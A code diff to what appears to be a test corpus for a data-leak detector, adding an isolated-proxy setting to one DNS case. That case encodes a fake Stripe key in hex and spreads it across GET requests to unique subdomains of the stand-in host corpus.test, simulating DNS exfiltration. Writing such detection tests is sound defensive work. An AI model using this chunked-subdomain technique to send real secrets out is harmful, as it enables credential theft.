@@ -162,6 +162,9 @@ const DNS: CorpusCase[] = [
     const data = hex(fake.stripe(r(id)));
     return hl(id, 'host', 'many unique subdomains in a window: a Stripe key in 12 hex chunks, one name per request', {
       leakRule: 'all-steps',
+      // Its own egress: the window it fills (unique random subdomains of corpus.test) would
+      // otherwise refuse the benign CloudFront/API-Gateway-style names replayed after it.
+      proxy: 'isolated',
       steps: pieces(data, Math.ceil(data.length / 12)).map((p, i) => ({ method: 'GET', url: `${host(`${i.toString(36)}${p}`)}/p.gif` })),
     });
   })(),
